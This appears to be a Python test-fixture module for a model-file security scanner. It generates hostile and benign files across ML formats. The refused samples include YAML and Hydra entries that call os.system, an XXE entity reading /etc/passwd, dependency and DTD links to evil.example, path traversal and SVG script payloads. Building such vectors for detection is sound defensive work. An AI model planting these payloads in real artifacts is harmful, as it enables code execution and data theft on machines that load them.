"""Makes hostile and harmless files of the other formats: R, Core ML, OpenVINO, PMML, trees, YAML, archives.

Named by what is wrong with them. Nothing here needs a framework; `real/` holds small files that the
libraries themselves wrote (see `real.py`).
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import struct
import tarfile
import zlib
from pathlib import Path

from tests.vectors.artifacts.make import SYSTEM, proto, tarred, zipped

REAL = {path.name: path.read_bytes() for path in sorted((Path(__file__).parent / "real").iterdir())}


def r_data(*words: int | bytes, form: bytes = b"X\n") -> bytes:
    """An R serialisation, version 3; words are 32-bit numbers, bytes stand as they are."""
    order = ">" if form == b"X\n" else "<"
    body = b"".join(struct.pack(order + "i", word) if isinstance(word, int) else word for word in words)
    return form + struct.pack(order + "4i", 3, 0x40300, 0x30500, 5) + b"UTF-8" + body


def r_symbol(name: bytes) -> tuple[int | bytes, ...]:
    return (1, 9, len(name), name)


NIL = 254

# Of no key: sixty-four times the same letter. Split, so that no search for leaks stops at this file.
KEY = "-----BEGIN PRIVATE " + "KEY-----\n" + "A" * 64 + "\n" + "-----END PRIVATE " + "KEY-----\n"
CERTIFICATE = "-----BEGIN CERTIFICATE-----\n" + "A" * 64 + "\nAAAA==\n-----END CERTIFICATE-----\n"


def long_proto(number: int, value: bytes) -> bytes:
    """A protocol buffer field of a number above 15."""

    def varint(count: int) -> bytes:
        out = b""
        while count > 127:
            out += bytes([count & 127 | 128])
            count >>= 7
        return out + bytes([count])

    return varint(number << 3 | 2) + varint(len(value)) + value


def core_ml(kind: int, value: bytes) -> bytes:
    return proto((1, 4), (2, b"")) + long_proto(kind, value)


def mil(operation: bytes, blob: bytes = b"") -> bytes:
    attribute = proto((1, b"val"), (2, proto((5, proto((1, blob), (2, 64)))))) if blob else b""
    fields = [(1, operation), *([(5, attribute)] if blob else [])]
    block = proto((3, proto(*fields)))
    return core_ml(
        502, proto((1, 1), (2, proto((1, b"main"), (2, proto((3, proto((1, b"CoreML5"), (2, block))))))))
    )


def openvino(layer: str, before: str = "", version: int = 11) -> bytes:
    return f'<?xml version="1.0"?>{before}<net name="m" version="{version}"><layers>{layer}</layers></net>'.encode()


def pmml(body: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<PMML version="4.4"><Header/>{body}</PMML>'.encode()


def png(after: bytes = b"", crc: int = 0) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) ^ crc)

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + after


def lz4(data: bytes) -> bytes:
    """A frame of one stored block (the checksum of the header is not looked at)."""
    return b"\x04\x22\x4d\x18\x60\x40\x00" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def pax(headers: dict[str, str], name: str = "a.txt", data: bytes = b"text") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size, info.pax_headers = len(data), headers
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def hidden_name() -> bytes:
    """A zip member whose Unicode path field gives it another name."""
    extra = b"\x01" + struct.pack("<I", zlib.crc32(b"a.txt")) + b"../b.py"
    plain = bytearray(zipped([("a.txt", b"text")]))
    at = plain.index(b"PK\x01\x02")
    field = struct.pack("<HH", 0x7075, len(extra)) + extra
    plain[at + 30 : at + 32] = struct.pack("<H", len(field))
    plain[at + 51 : at + 51] = field
    end = plain.index(b"PK\x05\x06")
    plain[end + 12 : end + 16] = struct.pack("<I", end - at)
    return bytes(plain)


def oci(data: bytes, digest: str = "") -> bytes:
    name = f"blobs/sha256/{digest or hashlib.sha256(data).hexdigest()}"
    return tarred([("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'), (name, data)])


def skops(node: dict[str, object]) -> bytes:
    return zipped([("schema.json", json.dumps({"__id__": 1, "protocol": 2, **node}).encode())])


def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **more}


MLMODEL = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.5
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
mlflow_version: 2.9.2
signature:
  inputs: '[{"type": "double", "name": "a"}, {"type":
    "double"}]'
utc_time_created: '2023-11-01 00:00:00.000000'
"""
CONDA = """channels:
- conda-forge
dependencies:
- python=3.11.5
- pip<=23.2.1
- pip:
  - mlflow==2.9.2
  - cloudpickle==2.2.1
name: mlflow-env
"""
NEMO = """# comment
target: nemo.collections.asr.models.EncDecCTCModel
preprocessor: &pre
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  window: hann   # a word
  sizes: [ 1, 2,
    3 ]
other: *pre
text: |
  some text
    indented
optim: {name: novograd, lr: 0.05, betas: [0.8, 0.5]}
"""
DOCTYPE = '<!DOCTYPE net [<!ENTITY x SYSTEM "/etc/passwd">]>'
UBJ = REAL["xgb_binary_logistic_dart.ubj"]
XGB = json.loads(REAL["xgb_binary_logistic_gbtree.json"])


def xgb(**changes: object) -> bytes:
    model = json.loads(json.dumps(XGB))
    model["learner"]["gradient_booster"]["model"]["trees"][0].update(changes)
    return json.dumps(model).encode()


REFUSED = {
    "release.pem": KEY.encode(),
    "behind.pem": f"# the authority, and more\n{CERTIFICATE}\n{KEY}".encode(),
    "encrypted.pem": KEY.replace("PRIVATE", "RSA PRIVATE")
    .replace("-----\nA", "-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\nA")
    .encode(),
    "key_in_prose.md": f"# Model\n\nSigned with:\n\n{KEY}".encode(),
    "service_account.json": json.dumps({"type": "service_account", "private_key": KEY}).encode(),
    "key.yaml": b"key: " + json.dumps(KEY).encode() + b"\n",
    "promise.rds": gzip.compress(r_data(5, NIL, 6, *r_symbol(b"system"), NIL), mtime=0),
    "closure.rds": r_data(3, 253, NIL, *r_symbol(b"x")),
    "call.rds": r_data(6, *r_symbol(b"system"), 2, 16, 1, 9, 2, b"id", NIL),
    "little_endian_call.rds": r_data(6, *r_symbol(b"eval"), NIL, form=b"B\n"),
    "in_formula.rds": r_data(6, *r_symbol(b"~"), 2, 6, *r_symbol(b"system"), NIL, NIL),
    "environment.rds": r_data(4, 0, 253, 0x402, *r_symbol(b"f"), 13, 1, 1, NIL, NIL, NIL),
    "pointer.rds": r_data(22, NIL, NIL),
    "byte_code.rds": r_data(21, 1, 1),
    "in_list.rda": b"RDX3\n" + r_data(0x402, *r_symbol(b"x"), 19, 1, 5, NIL, NIL, NIL),
    "custom_model.mlmodel": core_ml(555, proto((10, b"Evil"))),
    "custom_layer.mlmodel": core_ml(
        500, proto((1, proto((1, b"l")) + long_proto(500, proto((10, b"Evil")))))
    ),
    "custom_in_branch.mlmodel": core_ml(
        500, proto((1, long_proto(605, proto((1, proto((1, long_proto(500, b""))))))))
    ),
    "custom_in_pipeline.mlmodel": core_ml(202, proto((1, core_ml(555, b"")))),
    "custom_operation.mlmodel": mil(b"custom_layer"),
    "linked.mlmodel": core_ml(556, proto((1, proto((1, proto((1, b"/tmp/x.mlmodelc"))))))),
    "weights_elsewhere.mlmodel": mil(b"const", b"@model_path/../../etc/passwd"),
    "overlap_weight.bin": REAL["weight.bin"].replace(struct.pack("<Q", 128), struct.pack("<Q", 64), 1),
    "package/Manifest.json": REAL["Manifest.json"].replace(b"com.apple.CoreML/weights", b"../../weights"),
    "library.xml": openvino(
        '<layer id="0" name="x" type="Relu" version="opset1"><data library="/tmp/e.so"/></layer>'
    ),
    "extension.xml": openvino('<layer id="0" name="x" type="Custom" version="extension"/>'),
    "entity.xml": openvino("<layer/>", DOCTYPE),
    "constant.xml": openvino(
        '<layer id="0" name="c" type="Const" version="opset1">'
        '<data element_type="f32" shape="4" offset="0" size="4000"/></layer>'
    ),
    "extension.pmml": pmml('<Extension name="script" value="x"/>'),
    "extension_value.pmml": pmml('<Extension name="note" value="Runtime.getRuntime().exec(1)"/>'),
    "extension_text.pmml": pmml("<Extension>import os; os.system(1)</Extension>"),
    "class.pmml": pmml(
        '<TransformationDictionary><Apply function="com.evil.Udf"/></TransformationDictionary>'
    ),
    "doctype.pmml": pmml("", '<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">'),
    "laughs.pmml": pmml("", '<!DOCTYPE PMML [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>'),
    "reference.pmml": pmml('<Taxonomy href="http://evil.example/x"/>'),
    "style.pmml": b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><PMML version="4.4"/>',
    "script.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "handler.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "object.yaml": b"a: [1, !!python/object/apply:os.system ['echo garrison-test']]\n",
    "long_tag.yaml": b"a: !<tag:yaml.org,2002:python/name:os.system> x\n",
    "application_tag.yaml": b"a: !Evil {b: 1}\n",
    "unparsed_tag.yaml": b"? a\n: !!python/name:os.system\n",
    "aliases.yaml": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(
        b"%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n" % (i + 1, i + 1, *[i] * 8) for i in range(97, 105)
    ),
    "hydra.yaml": b"model:\n  - _target_: os.system\n    _args_: [id]\n",
    "hydra_detour.yaml": b"m: {_target_: torch.nn.modules.functools.Popen}\n",
    "escaped_key.yaml": b'"\\x5ftarget_": os.system\n',
    "expression.yaml": b"n:\n  _target_: UNet\n  x: \"$__import__('os').system('id')\"\n",
    "monai.yaml": b"imports:\n- $import os\n",
    "diffusion.yaml": b"model:\n  target: evil.Model\n  params: {}\n",
    "class_path.yaml": b"model:\n  class_path: evil.Model\n",
    "loader/MLmodel": MLMODEL.replace("mlflow.sklearn", "evil_loader").encode(),
    "code/MLmodel": MLMODEL.replace("code: null", "code: code").encode(),
    "path/MLmodel": MLMODEL.replace("pickled_model: model.pkl", "pickled_model: ../../x.pkl").encode(),
    "git/conda.yaml": CONDA.replace("mlflow==2.9.2", "git+https://evil.example/x.git").encode(),
    "index/conda.yaml": CONDA.replace("mlflow==2.9.2", "--extra-index-url http://evil.example/").encode(),
    "channel/conda.yaml": CONDA.replace("conda-forge", "http://evil.example/channel").encode(),
    "evil.nemo": tarred(
        [("model_config.yaml", b"target: nemo.X\npre:\n  _target_: os.system\n  _args_: ['id']\n")]
    ),
    "direct/requirements.txt": b"numpy\nx @ https://evil.example/x.whl\n",
    "editable/requirements.txt": b"-e git+https://evil.example/x.git#egg=x\n",
    "handler.mar": zipped(
        [("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "evil.py"}}'), ("w.txt", b"x")]
    ),
    "handler_code.mar": zipped(
        [
            ("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "image_classifier"}}'),
            ("h.py", b"x"),
        ]
    ),
    "child.json": xgb(
        left_children=[99] * len(XGB["learner"]["gradient_booster"]["model"]["trees"][0]["left_children"])
    ),
    "lengths.json": xgb(right_children=[]),
    "trailing.ubj": UBJ + SYSTEM,
    "twice.ubj": b"{U\x01aTU\x01aT}",
    "length.ubj": b"{L\0\0\0\0\0\0\0\x01aSL\x7f" + bytes(7) + b"}",
    "booster.model": REAL["xgb_count_poisson_gblinear.deprecated"].replace(b"gblinear", b"gbevil__"),
    "children.model": REAL["xgb_multi_softprob_dart.deprecated"].replace(
        struct.pack("<iii", -1, 1, 2), struct.pack("<iii", -1, 1, 9_999), 1
    ),
    "size.cbm": b"CBM1" + bytes(12) + SYSTEM,
    "trailing.cbm": REAL["cat_c.cbm"] + SYSTEM,
    "offset.cbm": REAL["cat_c.cbm"][:8] + b"\xff\xff\xff\x7f" + REAL["cat_c.cbm"][12:],
    "child_model.txt": REAL["lgb_cat.txt"].replace(b"left_child=", b"left_child=9999 ", 1),
    "objective_model.txt": REAL["lgb_linear.txt"].replace(
        b"objective=regression", b"objective=__import__('os')"
    ),
    "operator.skops": skops(node("OperatorFuncNode", "builtins", "call", attrs={})),
    "method.skops": skops(node("MethodNode", "sklearn", "X", content={"func": "system"})),
    "function.skops": skops(node("FunctionNode", "os", "system")),
    "old_function.skops": skops(
        node("FunctionNode", "x", "y", content={"module_path": "os", "function": "system"})
    ),
    "reduce.skops": skops(node("ReduceNode", "sklearn", "X")),
    "object.skops": skops(node("ObjectNode", "subprocess", "Popen", content=None)),
    "file.skops": skops(node("NdArrayNode", "numpy", "ndarray", file="../../x.npy")),
    "program.so": b"\x7fELF\x02\x01\x01" + bytes(60),
    "program.bin": b"MZ\x90\0" + bytes(56) + struct.pack("<I", 64) + b"PE\0\0",
    "llamafile": b"MZqFpD='\n" + bytes(64),
    "cached.bin": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(30),
    "java.bin": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(20),
    "evil/Modelfile": b"FROM ../../../etc/passwd\n",
    "address/Modelfile": b"FROM http://evil.example/x.gguf\n",
    "trailing.png": png(SYSTEM),
    "checksum.png": png(crc=1),
    "evil.lz4": lz4(SYSTEM),
    "renamed.tar": pax({"path": "b.txt"}),
    "resized.tar": pax({"size": "2"}),
    "second_name.zip": hidden_name(),
    "digest_oci.tar": oci(b'{"schemaVersion": 2}', "0" * 64),
    "foreign/index.json": b'{"layers": [{"mediaType": "x", "digest": "sha256:1", "urls": ["http://evil.example"]}]}',
    "basepath.onnx": proto(
        (1, 8), (7, proto((5, proto((1, 4), (2, 1), (13, proto((1, b"basepath"), (2, b"/etc"))))), (2, b"g")))
    ),
    "sparse.onnx": proto(
        (1, 8),
        (
            7,
            proto(
                (15, proto((1, proto((1, 4), (2, 1), (13, proto((1, b"location"), (2, b"/etc/x"))))))),
                (2, b"g"),
            ),
        ),
    ),
}

INCOMPLETE = {
    "cut.pem": CERTIFICATE[:60].encode(),
    "binary.pem": CERTIFICATE.encode() + b"\x80\x04",
    "not_base64.pem": CERTIFICATE.replace("AAAA==", "<script>").encode(),
    "cut.rds": r_data(13, 4, 1),
    "other_bracket.yaml": b"a: [1}\n",
    "empty_entry.yaml": b"a: [1,, 2]\n",
    "trailing.gif": b"GIF89a\x01\0\x01\0\0\0\0;abc",
    "trailing.rds": r_data(13, 1, 1) + b"abc",
    "class.rds": r_data(238, 2, *r_symbol(b"my_class"), NIL, NIL, NIL),
    "operation.mlmodel": mil(b"frobnicate"),
    "serialised.mlmodel": core_ml(3000, b"x"),
    "unknown.xml": b'<?xml version="1.0"?><other/>',
    "cut.xml": openvino("<layer")[:60],
    "syntax.yaml": b"a: b: c\n",
    "complex_key.yaml": b"? a\n: b\n",
    "twice.yaml": b"a: 1\na: 2\n",
    "cut.lz4": lz4(b"some words")[:-8],
    "line_model.txt": REAL["lgb_linear.txt"].replace(b"max_feature_idx=", b"max_frobnicate="),
    "cut.model": REAL["xgb_multi_softprob_dart.deprecated"][:-20],
}

CLEAN = {
    **REAL,
    "authorities.pem": f"\n# Issuer: CN=one\n# Sub-CA: zwei Prüfer\n{CERTIFICATE}\n{CERTIFICATE}".encode(),
    "speaks_of_keys.md": b"A file that begins with -----BEGIN PRIVATE KEY----- is refused.\n",
    "vector.rds": r_data(13, 2, 1, 2),
    "little_endian.rds": r_data(14, 1, bytes(8), form=b"B\n"),
    "ascii.rds": b"A\n3\n263168\n197888\n5\nUTF-8\n16\n1\n262153\n3\na\\nb\n",
    "formula.rds": r_data(6, *r_symbol(b"~"), 2, *r_symbol(b"y"), 2, *r_symbol(b"x"), NIL),
    "sequence.rds": r_data(
        238, 2, *r_symbol(b"compact_intseq"), 2, *r_symbol(b"base"), 2, 13, 1, 13, NIL, 14, 3, bytes(24), NIL
    ),
    "regressor.mlmodel": core_ml(300, b""),
    "opset.xml": openvino(
        '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1" element_type="f32"/></layer>'
    ),
    "tokenizer.xml": openvino('<layer id="0" name="x" type="BPETokenizer" version="extension"/>'),
    "plain.pmml": pmml('<DataDictionary numberOfFields="0"/><Extension name="user" value="me"/>'),
    "MLmodel": MLMODEL.encode(),
    "conda.yaml": CONDA.encode(),
    "python_env.yaml": b"python: 3.11.5\nbuild_dependencies:\n- pip==23.2.1\n- setuptools\n"
    b"dependencies:\n- -r requirements.txt\n",
    "ok.nemo": tarred([("model_config.yaml", NEMO.encode())]),
    "aliases_ok.yaml": b"a: &x {b: 1}\nc: *x\nd:\n  <<: *x\n",
    "tuple.yaml": b"a: !!python/tuple [1, 2]\nb: !!str 5\n",
    "requirements.txt": b"--extra-index-url https://download.pytorch.org/whl/cu121\n# a comment\n"
    b"numpy>=1.2 ; python_version < '4'\n-r more.txt\n",
    "ok.mar": zipped(
        [("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "handler": "image_classifier"}}')]
    ),
    "Modelfile": b"# one\nFROM ./model.gguf\nPARAMETER temperature 0.7\n"
    b'TEMPLATE """{{ .Prompt }}\nmore"""\nSYSTEM hi\n',
    "library/Modelfile": b"FROM llama3.2:1b\n",
    "picture.png": png(),
    "picture.gif": b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "picture.svg": b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "no_trees_model.txt": b"tree\nversion=v4\nnum_class=1\nobjective=binary sigmoid:1\n\nend of trees\n",
    "no_type.mlmodel": proto((1, 4), (2, proto((1, proto((1, b"x")))))),
    "number.json": b"1",
    "sound.wav": b"RIFF\x04\0\0\0WAVE",
    "words.txt.lz4": lz4(b'{"a": [1]}'),
    "long_name.tar": pax({}, "a" * 99 + "/" + "b" * 120 + ".txt"),
    "layout_oci.tar": oci(b'{"schemaVersion": 2}'),
}
